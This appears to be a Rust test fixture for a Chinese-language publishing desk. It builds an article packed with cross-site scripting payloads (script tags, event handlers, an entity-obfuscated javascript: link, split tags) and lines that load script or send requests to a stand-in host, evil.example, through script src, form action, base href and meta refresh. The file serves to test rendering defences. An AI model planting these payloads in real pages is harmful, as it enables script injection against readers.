//! An article that tries to run something on the reader's page. Screening does not look for scripts, so three careless
//! people could sign one.

use crate::desk::{Desk, SIGNERS, accepting, notice};
use serde_json::{Value, json};

const BODY: &str = "<p>正文开始</p><script>window.hit=1</script><SCRIPT SRC=//evil.example/x.js></SCRIPT >\
    <img src=x onerror=window.hit=1><svg onload=window.hit=1><script>window.hit=1</script></svg>\
    <iframe srcdoc='<script>parent.hit=1</script>'></iframe><a href='java&#115;cript:window.hit=1'>链接</a>\
    <form action=//evil.example><input name=x></form><base href=//evil.example>\
    <meta http-equiv=refresh content=0;//evil.example><style>*{background:url(//evil.example)}</style>\
    <link rel=stylesheet href=//evil.example/x.css><p style='background:url(//evil.example)' onclick=window.hit=1>正文</p>\
    </article></main></body><p>末段</p><scr<script>ipt>window.hit=1</scr</script>ipt><textarea></textarea>\
    <noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">";

/// The article in one of both formats, hostile in the fields beside the body too. A script that ran would set `window.hit`.
pub fn article(format: &str) -> Value {
    let mut document = notice(BODY);
    document["body_format"] = json!(format);
    document["title"] = json!("</title><script>window.hit=1</script>标题");
    document["summary"] = json!("<img src=x onerror=window.hit=1>摘要");
    let digest = format!("sm3:{}", "0".repeat(64));
    document["attachments"] = json!([{
        "name": "\"><script>window.hit=1</script>.txt", "media_type": "text/html", "digest": digest, "text": "附件"
    }]);
    document
}

/// Publishes a document, answering whatever screening says about it.
pub fn publish_anyway(desk: &Desk, item: &str, document: &Value) {
    desk.submit(item, document).ok();
    let findings = desk.case(item)["view"]["findings"].as_array().cloned().unwrap_or_default();
    for finding in findings {
        desk.step(SIGNERS[0], item, "dispose-finding", accepting(&finding["key"], "测试所需，予以保留。")).ok();
    }
    for (person, level) in SIGNERS.into_iter().zip(1..) {
        desk.sign(person, item, level).ok();
    }
    desk.file(item);
    desk.issue(item, "publish").ok();
    desk.publish(item, "publish", document).ok();
}
